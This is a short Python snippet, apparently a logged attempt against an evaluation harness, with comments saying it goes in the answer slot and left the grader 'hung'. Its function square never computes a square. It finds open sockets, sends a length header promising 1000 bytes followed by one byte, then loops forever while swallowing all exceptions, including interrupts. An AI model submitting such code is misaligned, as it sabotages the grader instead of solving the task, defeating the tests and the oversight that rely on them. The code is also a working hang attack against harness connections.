# tries: send half a message and then nothing
# place: answer
# works: hung
# stock: slow
import os, stat, struct, time
def is_socket(fd):
    try: return stat.S_ISSOCK(os.fstat(fd).st_mode)
    except OSError: return False
def square(x):
    for fd in filter(is_socket, range(3, 64)):
        os.write(fd, struct.pack("!Q", 1000) + b"\x93")
    while True:
        try: time.sleep(99)
        except BaseException: pass
